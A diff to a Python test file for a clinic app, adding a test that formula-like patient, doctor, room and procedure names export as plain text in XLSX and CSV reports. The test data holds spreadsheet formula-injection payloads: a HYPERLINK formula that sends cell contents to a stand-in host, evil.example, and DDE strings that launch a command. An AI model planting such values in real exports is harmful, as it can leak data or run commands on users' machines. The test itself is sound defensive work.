@@ -15,6 +15,7 @@ import pytest
 from dependency_injector import providers
 
 from clinic.application.catalog.doctors import DoctorFields
+from clinic.application.catalog.procedures import ProcedureFields
 from clinic.application.catalog.rooms import RoomFields
 from clinic.application.patients.save import PatientFields
 from clinic.application.scheduling.book import BookingRequest
@@ -301,6 +302,40 @@ def test_the_xlsx_has_real_dates_numbers_and_a_totals_row(busy):
     assert rows[-1] == ("Total counted", None, None, None, None, None, pytest.approx(3500.5),
                         None, 2)
     assert sheet[len(rows)][0].font.bold and sheet[len(rows)][6].font.bold
+
+
+HOSTILE = {"patient": '=HYPERLINK("http://evil.example/?x="&A2,"Click")',
+           "doctor": "+cmd|' /C calc'!A0", "room": "-2+3+cmd|' /C calc'!A0",
+           "procedure": "@SUM(1+1)*cmd|' /C calc'!A0"}
+
+
+@pytest.mark.parametrize("language", ["en", "ru"])
+def test_names_that_look_like_formulas_download_as_text_and_prices_as_numbers(
+        app, web_container, language):
+    clinic = Clinic(app, web_container, language)
+    container = clinic.container
+    clinic.patient = container.save_patient()(clinic.id, PatientFields(HOSTILE["patient"],
+                                                                       "+14155552672"))
+    container.save_doctor()(clinic.id, DoctorFields(HOSTILE["doctor"]), clinic.doctors[1].id)
+    container.save_room()(clinic.id, RoomFields(HOSTILE["room"]), clinic.rooms[1].id)
+    clinic.procedure = container.save_procedure()(clinic.id, ProcedureFields(
+        HOSTILE["procedure"], "1500", "30"))
+    clinic.book(date(2026, 11, 3), 10, "1500", room=1, doctor=1)
+    typed = [HOSTILE["patient"], HOSTILE["doctor"], HOSTILE["room"], HOSTILE["procedure"]]
+
+    response = clinic.get("/reports/download.xlsx?period=this_month")
+    assert response.status_code == 200
+    sheet = openpyxl.load_workbook(io.BytesIO(response.get_data())).active  # formulas kept
+    formulas = [cell.coordinate for row in sheet.iter_rows() for cell in row
+                if cell.data_type == "f"]
+    assert formulas == []
+    assert [cell.value for cell in sheet[2][2:6]] == typed  # as typed, not a character more
+    assert sheet[2][6].value == 1500 and sheet[2][6].data_type == "n"
+
+    rows = _csv(clinic.get("/reports/download.csv?period=this_month"))
+    assert rows[1][2:6] == ["'" + text for text in typed]
+    assert rows[1][6] == ("1500,00" if language == "ru" else "1500.00")
+    assert rows[-1][6] == rows[1][6] and rows[-1][8] == "1"
 
 
 def test_an_empty_period_downloads_a_header_and_a_zero_total(clinic):
